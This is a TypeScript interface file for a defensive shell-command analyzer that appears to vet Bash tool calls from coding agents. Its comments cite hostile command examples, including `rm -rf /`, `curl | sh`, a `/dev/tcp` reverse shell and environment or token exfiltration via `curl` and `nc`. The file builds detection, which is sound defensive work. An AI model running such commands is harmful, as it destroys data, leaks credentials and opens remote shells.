/**
 * The shell module's output: a typed, flattened view of everything a Bash command string would
 * execute. This is the only representation of shell text that the rest of lanes consumes; nothing
 * outside `src/shell/` tokenizes or pattern-matches `tool_input.command`.
 *
 * Pipeline: parse (unbash) → walk every node, threading the values known before the line runs
 * → resolve words → unwrap wrappers, follow nested shell strings, static text fed to shells and
 * interpreters, and per-program handlers → collect commands, pipes, code executions, loops and
 * what could not be represented.
 */

import type { DiskView } from "../host/disk-view.ts";

/** A word after static resolution. */
export interface ShellWord {
  /** The word exactly as written in the source. */
  readonly text: string;
  /**
   * The word's value after quote removal and the expansions lanes can resolve statically: `~`,
   * `~user`, `$HOME`, `$PWD`, variables and arrays assigned earlier on the line, positional
   * parameters (`set --`, `sh -c STR a b`, function arguments), `${X:-d}`/`${X:?}`/`${X%/*}`, and
   * command substitutions whose output is static (`$(pwd)`, `$(echo ...)`, `$(... | base64 -d)`).
   * `undefined` when it depends on run-time values (the environment, other programs' output,
   * arithmetic).
   */
  readonly value: string | undefined;
  /** True when an unquoted glob (`*`, `?`, `[...]`, extglob) or brace expansion would expand it. */
  readonly glob: boolean;
  /**
   * The variables the word expands whose value is only known at run time, the environment's or
   * assigned on the line from a run-time value (`"token=$GITHUB_TOKEN"` → `GITHUB_TOKEN`), also when printed inside its command substitutions
   * (`$(echo $TOKEN | base64)`, `$(printenv TOKEN)`; `*` for the whole environment: `$(env)`);
   * variables assigned a static value on the line are not listed. Absent when there are none.
   */
  readonly env?: readonly string[];
  /**
   * For a word whose `value` is unknown but partly written out (`"+$(git rev-parse HEAD):main"`,
   * `HEAD~${N}:master`): the text every value starts with (`head`) and ends with (`tail`); any
   * text may lie between. Absent when neither is known, or the word globs. An unquoted expansion
   * may split the word: its first field then starts with `head` and its last ends with `tail`.
   */
  readonly known?: { readonly head: string; readonly tail: string };
}

/** Redirection kinds, classified by what they do to the target. */
export type RedirectKind = "write" | "append" | "read" | "readwrite" | "dup" | "heredoc" | "herestring";

/** One redirection attached to a command. */
export interface ShellRedirect {
  readonly op: string;
  readonly kind: RedirectKind;
  /** The explicit file descriptor (`2>` → 2), if any. */
  readonly fd: number | undefined;
  /**
   * The target word for file redirections and dups; the body text for heredocs and herestrings.
   * A heredoc body's `value` is the text the command reads, with `<<-` tabs stripped and any
   * `$VAR`/`$(...)` left as written (its `$(...)` also appear as commands).
   */
  readonly target: ShellWord | undefined;
}

/**
 * How a command was reached. The chain is outermost first, e.g. `["pipeline", "shell-string"]`
 * for the `rm` in `echo x | bash -c 'rm -rf /'`.
 */
export type Via =
  | "pipeline"
  | "list"
  | "subshell"
  | "group"
  | "function-body"
  | "control-flow"
  | "command-substitution"
  | "process-substitution"
  | "shell-string"
  | "wrapper"
  | "alias"
  | "xargs"
  | "find-exec"
  | "interpreter";

/** One simple command that would execute. */
export interface ShellCommand {
  /** Index in {@link ShellAnalysis.commands}. */
  readonly index: number;
  /** The full argument vector, program first, after wrappers were removed. */
  readonly argv: readonly ShellWord[];
  /**
   * The program's basename (`/usr/bin/rm` → `rm`, `\rm` → `rm`), or `undefined` when the name is
   * not statically known (`$CMD args`), which the policy treats as "ask". A redirection-only
   * command (`> file`) has an empty argv and no program, without being unrepresentable.
   */
  readonly program: string | undefined;
  /** `argv` without the program. */
  readonly args: readonly ShellWord[];
  /** Environment assignments written before the command (`FOO=1 cmd`). */
  readonly assignments: readonly { readonly name: string; readonly value: ShellWord }[];
  readonly redirects: readonly ShellRedirect[];
  /** Wrappers this command was found inside, outermost first, e.g. `["sudo", "xargs"]`. */
  readonly wrappers: readonly string[];
  /** The contexts that lead to this command, outermost first. */
  readonly via: readonly Via[];
  /** Nesting depth of shell strings (`bash -c`, `eval`, `find -exec sh -c`, interpreter `system()`). */
  readonly depth: number;
  /**
   * True when more arguments are supplied at run time: `xargs rm` (arguments from stdin),
   * `find . -exec rm {} \;` (the `{}` placeholder).
   */
  readonly runtimeArgs: boolean;
  /**
   * For commands run by `find -exec` or `-delete`, the start paths given to `find`, which bound
   * the paths the command receives. Empty otherwise.
   */
  readonly searchRoots: readonly ShellWord[];
  /**
   * In the body of a loop that reads a listing of files (`find . -name x | while read f; do …`,
   * `git ls-files | while read f`), the index of the lister: the variable stands for each listed
   * file, written `{}`, as `xargs` gives it.
   */
  readonly lister?: number;
  /**
   * The directory the command runs in, tracking static `cd`/`pushd` earlier in the same list
   * (`cd / && rm -rf *` runs `rm` in `/`); `undefined` once it depends on a run-time value
   * (`cd "$X"`, `popd`). Starts at {@link AnalyzeOptions.cwd}. Subshells do not leak their `cd`.
   */
  readonly cwd: string | undefined;
  /** The source text of this command (for messages), as written at its own nesting level. */
  readonly text: string;
  /**
   * Index of the command that starts this one when that command is itself in
   * {@link ShellAnalysis.commands}: `find` for its `-exec` commands, `bash` for the commands of
   * `bash -c STR`, `python3` for an `os.system()` string, `ssh` for its remote command.
   * `undefined` at the top level and for plain wrappers (`sudo`, `env`, `xargs` are removed).
   */
  readonly launchedBy: number | undefined;
  /**
   * The text the command reads on stdin when it is known before the line runs: a heredoc, a
   * herestring, a file written earlier on the line, or the static output of the commands piped
   * in (`echo ... | base64 -d | psql`). Absent when stdin is a terminal or only known at run time.
   */
  readonly stdin?: string;
  /**
   * The text of the files the command's operands name when it is known before the line runs: a
   * process substitution with static output (`psql -f <(echo ...)`) or a file written earlier on
   * the line (`echo ... > q.sql && psql -f q.sql`, also as `--file=q.sql`). In operand order.
   */
  readonly inputs?: readonly string[];
  /**
   * Where the command is written when it comes from a file read from disk at hook time (a script,
   * a Makefile recipe, a package.json script, a git hook) or from code a call stores for a tool to
   * run later: the file as shown in messages (relative to the project when inside it) and the line.
   * A command nested in such a command (`bash -c` in a recipe) has the line of the command it is in.
   */
  readonly origin?: CommandOrigin;
}

/** A file and line a command is written on (see {@link ShellCommand.origin}). */
export interface CommandOrigin {
  readonly file: string;
  readonly line: number;
}

/** A language whose code lanes can recognise being executed. */
export type CodeLanguage = "shell" | "python" | "node" | "perl" | "ruby" | "php" | "powershell" | "c";

/** An interpreter language whose code lanes reads for its calls (`code/`): not shell, PowerShell or C. */
export type CodeTokenLanguage = Exclude<CodeLanguage, "shell" | "powershell" | "c">;

/**
 * A piece of code handed to a shell or an interpreter: `bash -c STR`, `python -c STR`,
 * `node -e STR`, a heredoc fed to `bash`, `curl ... | sh`, `bash <(curl ...)`, `eval "$(...)"`.
 */
export interface CodeExecution {
  readonly language: CodeLanguage;
  /** The interpreter program (`bash`, `python3`, `eval`, `source`, ...). */
  readonly interpreter: string;
  /** Index of the command that runs the code. */
  readonly command: number;
  /**
   * Where the code comes from:
   * - `literal`: a static string in the command (`-c`, `-e`, heredoc, herestring, echo piped in);
   * - `stdin`: the output of other commands, piped in;
   * - `process-substitution` / `command-substitution`: the output of the commands inside;
   * - `file`: a script file named on the command line, not read (no disk is known: a pure
   *   evaluation, or its path is only known at run time);
   * - `disk`: a file read from disk at hook time (`bash x.sh`, a Makefile recipe, a package.json
   *   script, a git hook), or code a call stores for a tool to run later; `code` is its text and
   *   `path` the file as shown in messages;
   * - `written-file`: a file written earlier on the same line whose text is not static (a
   *   download: `curl -o f URL && sh f`); `producers` are the commands that wrote it;
   * - `dynamic`: a run-time value (a variable).
   */
  readonly source:
    | "literal"
    | "stdin"
    | "process-substitution"
    | "command-substitution"
    | "file"
    | "written-file"
    | "dynamic"
    | "disk";
  /** The code itself when `source` is `literal` or `disk`. */
  readonly code: string | undefined;
  /** With `disk`: the file the code was read from, as shown in messages. */
  readonly path?: string;
  /** Indices of the commands whose output becomes the code (for `stdin` and substitutions). */
  readonly producers: readonly number[];
}

/** A call found in interpreter code (`shutil.rmtree("/")`, `fs.rmSync(p, {recursive: true})`). */
export interface InterpreterCall {
  readonly language: CodeLanguage;
  /** Index of the command that runs the code. */
  readonly command: number;
  /** Canonical API name from the language table, e.g. `shutil.rmtree`, `fs.rmSync`, `unlink`. */
  readonly api: string;
  /**
   * What the API does to its path arguments; `symlink` and `hardlink` make a link, and their
   * `args` are then the target and the link's own path, in that order (see `links.ts`); `list` reads the names in a directory (`os.listdir`).
   */
  readonly access: "delete" | "write" | "read" | "exec" | "chmod" | "symlink" | "hardlink" | "list";
  /** True for recursive removal APIs (rmtree, rm_rf, `recursive: true`). */
  readonly recursive: boolean;
  /** True when a write replaces the file's content (`write_text`, `writeFileSync`, `open(p, "w")`), not an append. */
  readonly overwrite?: boolean;
  /** The static string arguments found in the call, in order; `undefined` for dynamic ones. */
  readonly args: readonly (string | undefined)[];
  /**
   * Per argument, when one is a pattern for the entries of a listing (`os.path.join(d, f)` for
   * each `f` of `os.listdir(d)` is `d/*`), and whether a test the analysis does not follow selects
   * among them (`filtered`). Absent when no argument is a pattern.
   */
  readonly details?: readonly { readonly glob?: boolean; readonly filtered?: boolean }[];
}

/** A shell function defined in the command string. */
export interface ShellFunction {
  readonly name: string;
  /** True when the body calls the function itself. */
  readonly recursive: boolean;
  /** True when a self-call inside the body runs in the background or in a pipeline (fork bomb shape). */
  readonly forks: boolean;
  /** True when the function is called somewhere in the command string. */
  readonly called: boolean;
}

/** A `while`/`until` or arithmetic `for` loop in the command string. */
export interface ShellLoop {
  /**
   * The condition always holds (`while true`, `while :`, `until false`, `for ((;;))`) and nothing
   * in the loop leaves it (`break`, `exit`, `return`).
   */
  readonly unbounded: boolean;
  /** The loop starts background jobs (`... & done`): with `unbounded`, a spawn loop. */
  readonly backgroundSpawn: boolean;
  /** The loop's source text. */
  readonly text: string;
}

/** Something the analysis could not represent; the policy answers "ask" for these. */
export interface Unrepresentable {
  /** Stable kebab-case code, e.g. `dynamic-command-name`, `parse-error`, `depth-limit`. */
  readonly code: string;
  /** One lowercase line for the reason shown to the model. */
  readonly message: string;
  /** The source text concerned. */
  readonly text: string;
}

/**
 * Another agent the command starts: Claude Code under any spelling (its CLI, the npm package's
 * script, a runner, a copy of the binary, the Agent SDK in interpreter code) or another vendor's
 * agent CLI (`codex`, `gemini`, ...). Each would run tool calls that lanes does not see, or sees
 * as another session.
 */
export interface AgentRun {
  /** Index of the command that starts it (the interpreter's, for Agent SDK code). */
  readonly command: number;
  /** `claude` for Claude Code and the Agent SDK; the CLI's own name for other vendors' agents. */
  readonly client: string;
  /**
   * How it is started: `name` (`claude`, `/usr/local/bin/claude`, `npx @anthropic-ai/claude-code`),
   * `script` (`node <package>/cli-wrapper.cjs`), `copy` (a copy or link of the client made on the
   * line, or a link to it found on disk), `sdk` (the Agent SDK from interpreter code).
   */
  readonly spelling: "name" | "script" | "copy" | "sdk";
  /**
   * `session`: it runs an agent (a prompt, `-p`, interactive); `configure`: it changes what the
   * client loads and runs later (`claude mcp add`, `claude plugin install`); `other`: it runs no
   * agent (`--version`, `--help`, `mcp list`, `doctor`).
   */
  readonly action: "session" | "configure" | "other";
  /**
   * Why lanes' hooks would not run in its session, one clause each (`` `--bare` skips every hook ``);
   * empty when they would. For another vendor's agent, empty: it never reads Claude Code's hooks.
   */
  readonly guardOff: readonly string[];
  /** The agent type it runs as (`--agent backend`); `*` for definitions given as JSON (`--agents`). */
  readonly agent?: string;
  /** The option by which it continues an existing session (`--resume`, `-c`, `--session-id`, the SDK's `resume`). */
  readonly resumes?: string;
  /** What it configures, for `configure` (`mcp add`, `plugin install`). */
  readonly configures?: string;
}

/**
 * Code parked where another program runs it later: a git configuration key that names a program
 * (`git config core.fsmonitor CMD`, `git -c core.pager=CMD`, `GIT_CONFIG_KEY_0=core.sshCommand`).
 */
export interface DeferredCode {
  /** Index of the command that parks it. */
  readonly command: number;
  /** `git-config`: written into a git configuration file; `git-option`: given for one git command (`-c`, `GIT_CONFIG_*`). */
  readonly kind: "git-config" | "git-option";
  /** The key as written (`core.fsmonitor`, `diff.x.textconv`). */
  readonly key: string;
  /** The value; `undefined` when only known at run time. */
  readonly value: string | undefined;
  /**
   * The value runs nothing new or only a program known to show or edit text (`cat`, `less -R`,
   * `vim`, `true`, `git-lfs`, a boolean): see `tables/git-programs.ts`.
   */
  readonly harmless: boolean;
}

/** A file the line writes by a redirection or `tee`, with the text written when it is static. */
export interface WrittenText {
  /** Index of the writing command. */
  readonly command: number;
  /** Absolute path. */
  readonly path: string;
  /** The text written; `undefined` when only known at run time. */
  readonly text: string | undefined;
  /** Appended (`>>`, `tee -a`) rather than replacing the file. */
  readonly append: boolean;
}

/** The result of analysing one command string. */
export interface ShellAnalysis {
  readonly source: string;
  /** The directory the line starts in ({@link AnalyzeOptions.cwd}). */
  readonly cwd: string;
  readonly commands: readonly ShellCommand[];
  /** Stdout-to-stdin edges between commands of the same pipeline (`from` feeds `to`). */
  readonly pipes: readonly { readonly from: number; readonly to: number }[];
  readonly code: readonly CodeExecution[];
  readonly calls: readonly InterpreterCall[];
  readonly functions: readonly ShellFunction[];
  readonly unrepresentable: readonly Unrepresentable[];
  /** The loops, in source order (spawn loops are `unbounded` with `backgroundSpawn`). */
  readonly loops: readonly ShellLoop[];
  /** Other agents the line starts (nested Claude Code clients, the Agent SDK, other vendors' agent CLIs). */
  readonly agents: readonly AgentRun[];
  /** Code parked for another program to run later (git configuration that names a program). */
  readonly deferred: readonly DeferredCode[];
  /** Files written by redirections and `tee`, with the static text written. */
  readonly written: readonly WrittenText[];
  /** True when the analysis stopped at its node or depth budget (a count, never the clock); the policy answers "ask". */
  readonly budgetExceeded: boolean;
  /** The files read from disk at hook time for the code they hold, in the order they were asked for (`lanes check` shows them). */
  readonly reads: readonly FileRead[];
}

/**
 * A file the analysis looked for on disk because a command runs the code in it (a script, a
 * Makefile, a package.json, a git hook) or a call stores code in it.
 */
export interface FileRead {
  /** The file as shown in messages (relative to the project when inside it, `~/` under the home). */
  readonly path: string;
  /** What the file is read as (`shell script`, `Makefile`, `package.json scripts`, `git hook`). */
  readonly as: string;
  /**
   * `read`: its code was judged; `missing`: there is no such file (nothing runs); `skipped`: a file
   * lanes does not read as code (a compiled program, a hook git does not run); `unread`: it could
   * not be read (too large, unreadable, past the bounds), which is judged as unknown code.
   */
  readonly outcome: "read" | "missing" | "skipped" | "unread";
  /** Why it was skipped or unread; for `read`, what ran from it (`target clean`). */
  readonly detail?: string;
}

/** Options of {@link analyzeShell}. */
export interface AnalyzeOptions {
  /** Home directory used to resolve `~` and `$HOME`. */
  readonly home: string;
  /** Working directory used to resolve `$PWD`. */
  readonly cwd: string;
  /** Maximum nesting of shell strings and interpreters (default 5). */
  readonly maxDepth?: number;
  /**
   * Ignored: the analysis is bounded by `maxNodes` and `maxDepth` only, so the same command gets
   * the same answer on every machine. Kept so existing callers type-check.
   * @deprecated
   */
  readonly budgetMs?: number;
  /** The repository root, the output of `git rev-parse --show-toplevel` (`undefined`: unknown). */
  readonly repoRoot?: string;
  /**
   * The file system ignores case (macOS, Windows: the policy's `case_insensitive_paths`): a program
   * named in other cases is that program (`RM -rf /`, `Sudo rm`), recorded under its lowercased name.
   */
  readonly caseInsensitive?: boolean;
  /** Maximum number of AST nodes visited (default 20 000). */
  readonly maxNodes?: number;
  /**
   * The disk as it is when the hook runs, read-only and bounded (`src/host/disk-view.ts`); handlers
   * see it as `Walk.disk`. Absent: nothing on disk is known (`NO_DISK`), as in pure evaluations.
   */
  readonly disk?: DiskView;
}

/** A peer a network client reaches: the host as written (lowercased, no port), and the path of the URL. */
export interface NetworkPeer {
  /** `undefined` when it is only known at run time (`curl "$URL"`, `nc "$HOST" 443`). */
  readonly host: string | undefined;
  /** The URL's path and query (`/log?token=...`), `""` for a host without a URL. */
  readonly path: string;
  /** Query parameters whose value expands run-time variables (`?key=$API_KEY` → `key`: `API_KEY`). */
  readonly query?: readonly { readonly param: string; readonly env: readonly string[] }[];
}

/**
 * What a network client (`curl`, `wget`, `http`, `nc`, `socat`...) sends, derived from program
 * knowledge (see `sends.ts`). Headers and credential options (`-H`, `-u`, `--oauth2-bearer`) are
 * not request data: a token there authenticates the request.
 */
export interface NetworkSend {
  /** Index of the client command. */
  readonly command: number;
  /** The peers it reaches; empty when none is named statically. */
  readonly peers: readonly NetworkPeer[];
  /**
   * Run-time variables whose values go to the peer as data: in a URL, a body, a form field, a
   * request item, or text it sends from standard input (`echo "$TOKEN" | nc host 443`,
   * `curl -d @- URL <<< "$TOKEN"`); for interpreter code, variables read by name outside
   * headers and auth arguments (`data={"k": os.environ["TOKEN"]}`).
   */
  readonly env: readonly string[];
  /**
   * The whole environment goes to the peer: in the request data (`curl -d "$(env)"`), or from
   * interpreter code that sends `os.environ`, `process.env`, `ENV.to_h`, `%ENV` with a network
   * API (the command is then the interpreter's).
   */
  readonly environment: boolean;
  /**
   * When the client sends its standard input (`curl -d @-`, `-T -`, `nc host port`, httpie fed
   * by a pipe): the commands whose output reaches it through pipes, nearest first. Empty otherwise.
   */
  readonly stdinFrom: readonly number[];
  /**
   * Run-time variables in the request's credentials: header and authentication options (`-H
   * "Authorization: Bearer $GITHUB_TOKEN"`, `-u "ci:$TOKEN"`, `--oauth2-bearer`, httpie
   * `Header:value` items and `-a`). A token there authenticates the request: it goes to the peer.
   */
  readonly credentials?: readonly string[];
  /**
   * Local files whose content goes to the peer: `curl -T f`, `-F x=@f`, `-d @f`, `wget
   * --post-file f`, httpie `field@f` and `@f`, `scp f host:`, `rsync f host:`, `nc host port < f`,
   * `cat f | nc host port`, `cat f > /dev/tcp/host/port`. Absent when none is.
   */
  readonly files?: readonly ShellWord[];
  /** The request method when the command names it (`curl -X DELETE`, `http DELETE URL`), uppercased. */
  readonly method?: string;
  /**
   * A shell on this machine is tied to the socket: its input or output is the peer (`bash -i >&
   * /dev/tcp/host/port 0>&1`, `bash < /dev/tcp/host/port`), so the peer runs commands here.
   */
  readonly shell?: boolean;
  /**
   * True for a command whose output is shown in the transcript rather than sent to a network peer
   * (`echo $TOKEN`, `gh auth token`, `printenv | grep -i token`): the model reads it. `env` then
   * holds the run-time variables it prints, `environment` says it prints the environment picked
   * for secrets by a `grep`, and `stdinFrom` the command itself (credential printers).
   */
  readonly transcript?: boolean;
}

/** How a command touches a path, derived from program knowledge (see `effects.ts`). */
export interface FileEffect {
  /** Index of the command. */
  readonly command: number;
  /**
   * `use`: the program consumes the file without showing its content (a key or certificate for a
   * TLS connection or a signature: `curl --key`, `openssl req -key`, `scp -i`, `ssh-add`);
   * `list`: it shows the names in a directory, not their content (`ls ~/.ssh`, `find ~/.aws`,
   * `tree`); `share`: it hands the content to a program whose behaviour is not known, which may
   * show or send it (`docker run --env-file .env someone/tool`).
   */
  readonly access: "read" | "write" | "delete" | "chmod" | "chown" | "exec" | "use" | "list" | "share";
  /** The path operand (may be dynamic or a glob). */
  readonly path: ShellWord;
  /** True for recursive operations (`rm -r`, `chmod -R`, `find -delete`, `cp -r` targets). */
  readonly recursive: boolean;
  /** True when forced (`rm -f`, `cp -f`, `mv -f`). */
  readonly force: boolean;
  /**
   * True when the operation only hits entries selected by a name or path filter
   * (`find . -name '*.tmp' -delete`), so the path is a search root rather than the target itself.
   */
  readonly filtered: boolean;
  /**
   * True when a write replaces the file's whole content (`> f`, `truncate`, `tee f`, `cp x f`,
   * `dd of=f`), as opposed to appending or editing (`>> f`, `sed -i`, `touch`).
   */
  readonly overwrite?: boolean;
  /**
   * A mode change that keeps the owner's access and only takes the group's and others' away
   * (`chmod 600 ~/.ssh/id_ed25519`, `chmod -R go-rwx ~/.gnupg`); recursive octal modes keep the
   * owner's `x`. Only on `chmod` effects.
   */
  readonly tightens?: boolean;
  /**
   * On a search root of `find` (`-delete`, `-exec` commands given `{}`, or commands `xargs` gives
   * what find prints, `printed`): find's arguments, which select the entries under the root the
   * effect reaches (src/shell/find-expression.ts).
   */
  readonly selection?: {
    readonly args: readonly (string | undefined)[];
    readonly printed: boolean;
    /** The text after `{}` of a path made from each selected one (`{}.bak`): the effect is on that path. */
    readonly suffix?: string;
  };
  /**
   * The directory a relative path is relative to when it is not the command's own: the search root
   * `find -execdir` hands its command is relative to find's directory, not to each file's.
   */
  readonly cwd?: string | undefined;
  /**
   * A recursive mode change that may lock the owner out: `files` when it may take the owner's read
   * access (`chmod -R 000 .`, `chmod -R a-r .`), `dirs` when it may take only directories' search
   * access (`chmod -R 644 .`). Only on recursive `chmod` effects.
   */
  readonly locksOut?: "files" | "dirs";
  /**
   * How the effect was derived: `known` for programs in the tables, `redirect` for redirections,
   * `operand` for a path-looking operand of a program lanes does not know (access is then "read"),
   * `flag` for what a write flag or subcommand makes a program write (`tables/flag-writes.ts`).
   */
  readonly basis: "known" | "redirect" | "operand" | "flag";
}

/**
 * A link a command makes (`ln -s TARGET NAME`, `cp -s`, `cp -l`, `link`, `os.symlink`,
 * `fs.linkSync`, ...), from program knowledge in `tables/links.ts` (see `links.ts`). Whoever
 * follows a symbolic link reads and writes its target; a hard link is the same file under a new
 * name. The policy judges making one as an access to what it leads to.
 */
export interface LinkEffect {
  /** Index of the command (the interpreter's, for an API call). */
  readonly command: number;
  readonly kind: "symbolic" | "hard";
  /** What the link leads to, as written. */
  readonly target: ShellWord;
  /** The link's own path, or the directory it is made in (see `place`). */
  readonly name: ShellWord;
  /**
   * How `name` places the link: `exact` (the link is `name`: `ln -T`, `link`, an API), `into` (a
   * directory: the link is `name/<basename of target>`: `ln -t DIR`, several targets, a trailing
   * `/`, a lone `ln TARGET` with `name` `.`), `maybe-into` (`ln TARGET NAME`: into `NAME` when it is
   * a directory on disk, else `NAME` itself).
   */
  readonly place: "exact" | "into" | "maybe-into";
  /**
   * What a relative `target` is relative to: `link` (the link's own directory, as the kernel
   * reads a symbolic link), `cwd` (the working directory: hard links, `ln -r`), `name` (the
   * directory `name`: `rsync --link-dest`, `lndir`), `either` (an API that tries both).
   */
  readonly base: "link" | "cwd" | "name" | "either";
  /** A whole tree is linked (`cp -rs`, `cp -al`, `rsync --link-dest`, `lndir`). */
  readonly recursive: boolean;
  /** The link replaces what is at its path (`ln -f`). */
  readonly force: boolean;
}

/**
 * A path a command moves or copies as it is, a symbolic link staying a link (`mv x dir/`, `cp -P x
 * y`): when it is one, a relative target now leads from the new place (see `links.ts`).
 */
export interface LinkCopy {
  readonly command: number;
  readonly from: ShellWord;
  /** The new path, or the directory it goes into (see `place`, as for {@link LinkEffect}). */
  readonly to: ShellWord;
  readonly place: LinkEffect["place"];
}

/**
 * A command's arguments split by that program's option grammar (see `argv.ts`): `rm -rf -- x` →
 * flags `-r`, `-f`; positionals `x`; `afterDoubleDash` true.
 */
export interface ArgView {
  /**
   * Every option given, by its canonical spelling: short options one letter each (`-rf` → `-r`,
   * `-f`), long options without their value (`--force`, `--output=x` → `--output`), unambiguous
   * long prefixes expanded (`--recur` → `--recursive`) for programs in the tables.
   */
  readonly flags: ReadonlySet<string>;
  /** The values of options that take one (`-m msg`, `--output=x`, dd's `of=x` under `of`), in order. */
  readonly values: ReadonlyMap<string, readonly ShellWord[]>;
  /**
   * Operands in order. For programs with subcommands (git) this starts at the subcommand:
   * `git -C x push -f origin main` → `push`, `origin`, `main`.
   */
  readonly positionals: readonly ShellWord[];
  /** True when a `--` ended the options. */
  readonly afterDoubleDash: boolean;
  /**
   * For each positional, whether it may be the value of the option before it rather than an
   * operand (`gh issue list --search delete`: `delete`): the option is not in the program's grammar
   * and not known to take no value. A rule's literal word never matches a suspect positional.
   */
  readonly suspect: readonly boolean[];
  /**
   * For a package runner the walk did not unwrap (its own options come first: `npm -w api exec
   * eslint --fix`, `pnpm -r exec rm -rf dist`): the program it runs and that program's positionals.
   */
  readonly runs?: { readonly program: string; readonly positionals: readonly ShellWord[] };
}
